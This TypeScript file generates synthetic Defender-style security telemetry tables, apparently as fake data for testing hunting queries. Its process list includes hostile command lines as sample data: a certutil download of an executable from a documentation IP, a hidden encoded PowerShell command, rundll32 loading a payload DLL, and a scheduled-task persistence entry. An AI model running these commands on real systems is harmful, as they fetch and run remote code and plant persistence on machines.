import { pickOften, type TableShape, toColumns } from './table.ts';

const PROCESSES = [
  ['svchost.exe', 'svchost.exe -k netsvcs -p'],
  ['chrome.exe', '"chrome.exe" --type=renderer'],
  ['cmd.exe', 'cmd.exe /c whoami /all'],
  ['powershell.exe', 'powershell.exe -NoProfile -Command Get-Service'],
  ['powershell.exe', 'powershell.exe -nop -w hidden -EncodedCommand SQBFAFgA'],
  ['rundll32.exe', 'rundll32.exe C:\\Users\\Public\\payload.dll,Start'],
  ['certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/a.txt a.exe'],
  ['schtasks.exe', 'schtasks.exe /create /tn Updater /tr "C:\\Temp\\u.exe" /sc minute'],
] as const;

const PARENTS = ['explorer.exe', 'services.exe', 'winword.exe', 'outlook.exe', 'wscript.exe'];

/** `DeviceInfo`. */
export const deviceInfo: TableShape = {
  name: 'DeviceInfo',
  usualRows: 120,
  columns: toColumns(
    'DeviceId, DeviceName, ClientVersion, PublicIP, OSArchitecture, OSPlatform, OSBuild:long, IsAzureADJoined:bool, LoggedOnUsers:dynamic, DeviceType, OnboardingStatus, ExposureLevel, SensorHealthState, ReportId:long',
  ),
  makeRow({ words, index, random }) {
    const { devices, people } = words;
    const device = devices[index % devices.length] ?? random.pick(devices);
    const person = random.pick(people);
    return [
      device.id,
      device.name,
      `10.8760.${random.below(30000)}.1${random.below(100)}`,
      `198.51.100.${random.below(256)}`,
      '64-bit',
      device.os,
      random.pick([26100, 20348, 22631]),
      random.below(4) === 0 ? null : random.below(2) === 0,
      [{ UserName: person.name, DomainName: 'CORP', Sid: person.sid }],
      device.os === 'WindowsServer2022' ? 'Server' : 'Workstation',
      'Onboarded',
      random.pick(['Low', 'Medium', 'High', 'None']),
      random.pick(['Active', 'Active', 'Inactive', 'NoSensorData']),
      // More digits than a JavaScript number holds.
      638_000_000_000_000_001n + BigInt(random.below(2 ** 31)),
    ];
  },
};

/** `DeviceProcessEvents`. */
export const deviceProcessEvents: TableShape = {
  name: 'DeviceProcessEvents',
  usualRows: 600,
  columns: toColumns(
    'DeviceId, DeviceName, ActionType, FileName, FolderPath, SHA1, SHA256, ProcessId:long, ProcessCommandLine, ProcessCreationTime:datetime, AccountDomain, AccountName, AccountUpn, InitiatingProcessFileName, InitiatingProcessCommandLine, InitiatingProcessUniqueId:long, ReportId:long, AdditionalFields:dynamic',
  ),
  makeRow({ words, random, at }) {
    const { devices, people } = words;
    const device = random.pick(devices);
    const person = random.pick(people);
    const [fileName, commandLine] = pickOften(random, PROCESSES);
    const parent = random.pick(PARENTS);
    return [
      device.id,
      device.name,
      'ProcessCreated',
      fileName,
      `C:\\Windows\\System32\\${fileName}`,
      random.hex(40),
      random.below(5) === 0 ? null : random.hex(64),
      random.below(65_000),
      commandLine,
      at - BigInt(random.below(50_000)),
      'corp',
      person.name,
      random.below(3) === 0 ? null : person.upn,
      parent,
      parent,
      81_000_000_000_000_000n + BigInt(random.below(2 ** 31)),
      random.below(900_000),
      { IsElevated: random.below(2) === 0, Score: random.below(100) },
    ];
  },
};

/** `DeviceLogonEvents`. */
export const deviceLogonEvents: TableShape = {
  name: 'DeviceLogonEvents',
  usualRows: 300,
  columns: toColumns(
    'DeviceId, DeviceName, ActionType, LogonType, AccountDomain, AccountName, AccountSid, IsLocalAdmin:bool, FailureReason, RemoteDeviceName, RemoteIP, RemoteIPType, RemotePort:int, ReportId:long',
  ),
  makeRow({ words, random }) {
    const { devices, people } = words;
    const device = random.pick(devices);
    const person = random.pick(people);
    const hasFailed = random.below(4) === 0;
    const isPublic = random.below(6) === 0;
    return [
      device.id,
      device.name,
      hasFailed ? 'LogonFailed' : 'LogonSuccess',
      random.pick(['Interactive', 'Network', 'RemoteInteractive', 'Batch']),
      'corp',
      person.name,
      person.sid,
      random.below(5) === 0,
      hasFailed ? random.pick(['InvalidUserNameOrPassword', 'LogonTypeNotGranted']) : null,
      random.below(2) === 0 ? null : random.pick(devices).name,
      isPublic ? `203.0.113.${random.below(256)}` : `10.0.${random.below(8)}.${random.below(256)}`,
      isPublic ? 'Public' : 'Private',
      random.below(65_000),
      random.below(900_000),
    ];
  },
};
